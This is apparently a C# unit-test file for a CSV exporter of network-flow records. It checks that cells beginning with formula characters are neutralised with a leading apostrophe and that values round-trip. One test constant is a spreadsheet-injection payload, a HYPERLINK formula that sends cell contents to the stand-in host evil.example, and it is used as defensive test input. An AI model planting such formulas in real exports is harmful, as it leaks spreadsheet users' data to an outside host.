using System.Text;
using CsCheck;
using Visibility.Query.Flows;

namespace Visibility.Tests.Query;

public sealed class FlowCsvTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\tcmd")]
    [InlineData("\rcmd")]
    [InlineData("'quoted")]
    [InlineData(Formula)]
    public void Inert_TextStartingAFormulaOrAQuote_GetsALeadingQuote(string value) =>
        Assert.Equal("'" + value, FlowCsv.Inert(value));

    [Theory]
    [InlineData("")]
    [InlineData("eu-west-1")]
    [InlineData("a=b")]
    [InlineData("10.10.3.10")]
    [InlineData("::1")]
    [InlineData(" =leading space")]
    public void Inert_OtherText_IsUnchanged(string value) => Assert.Equal(value, FlowCsv.Inert(value));

    [Fact]
    public void AppendRow_FormulaLabel_QuotedCellHoldsTheLeadingQuote_NumbersAsTheyAre()
    {
        var text = new StringBuilder();
        FlowCsv.AppendRow(text, Row(Formula, "-team", "+x"));
        var cells = CsvText.Parse(text.ToString()).Single();
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", text.ToString(), StringComparison.Ordinal);
        Assert.Equal("'" + Formula, cells[Index("dst_loc")]);
        Assert.Equal("'-team", cells[Index("dst_app")]);
        Assert.Equal("'+x", cells[Index("src_workload")]);
        Assert.Equal("443", cells[Index("dst_port")]);
        Assert.Equal("1200", cells[Index("bytes_out")]);
        Assert.Equal("18446744073709551615", cells[Index("conn_id")]);
        Assert.EndsWith("\r\n", text.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Header_IsTheDocumentedColumnList()
    {
        Assert.Equal(
            "time,end,event,proto,src_ip,src_port,dst_ip,dst_port,bytes_out,bytes_in,packets_out,packets_in,"
            + "src_workload,src_kind,src_app,src_env,src_role,src_loc,dst_workload,dst_kind,dst_app,dst_env,dst_role,dst_loc,findings,conn_id,source,"
            + "verdict,attempt,audited,reason,policies\r\n",
            FlowCsv.Header);
        Assert.Equal(FlowCsv.ColumnNames.Count, CsvText.Parse(Append(Row("x", "y", "z"))).Single().Length);
    }

    [Fact]
    public void AppendRow_AnyTextValues_ReadBackAndLeadingQuoteRemoved_GiveTheOriginals()
    {
        // Text as anyone may write it into the inventory: formula starts, quotes, separators, line breaks.
        var gen = Gen.String[Gen.Char["=+-@'\t\r\n,\"; aZ0|"], 0, 12];
        Gen.Select(gen, gen, gen).Sample((loc, app, workload) =>
        {
            var cells = CsvText.Parse(Append(Row(loc, app, workload))).Single();
            Assert.Equal(loc, Recover(cells[Index("dst_loc")]));
            Assert.Equal(app, Recover(cells[Index("dst_app")]));
            Assert.Equal(workload, Recover(cells[Index("src_workload")]));
            Assert.All(cells, c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r', c));
        }, iter: 5_000);
    }

    /// <summary>What docs tell a reader to do: a text cell that starts with <c>'</c> had one added.</summary>
    private static string Recover(string cell) => cell.StartsWith('\'') ? cell[1..] : cell;

    private static int Index(string column) => FlowCsv.ColumnNames.ToList().IndexOf(column);

    private static string Append(FlowRow row)
    {
        var text = new StringBuilder();
        FlowCsv.AppendRow(text, row);
        return text.ToString();
    }

    private static FlowRow Row(string dstLoc, string dstApp, string srcWorkload) => new(
        DateTimeOffset.Parse("2026-11-27T10:00:00Z", System.Globalization.CultureInfo.InvariantCulture), null, "destroy", "tcp",
        "10.20.2.10", 40000, "10.10.3.10", 443, 1200, 3400, 10, 20,
        new FlowEnd(srcWorkload, "vm", new Dictionary<string, string> { ["env"] = "dev" }),
        new FlowEnd("prod-db-1", "vm", new Dictionary<string, string> { ["app"] = dstApp, ["loc"] = dstLoc }),
        ["cross_env"], "18446744073709551615", "flows/0/42");
}
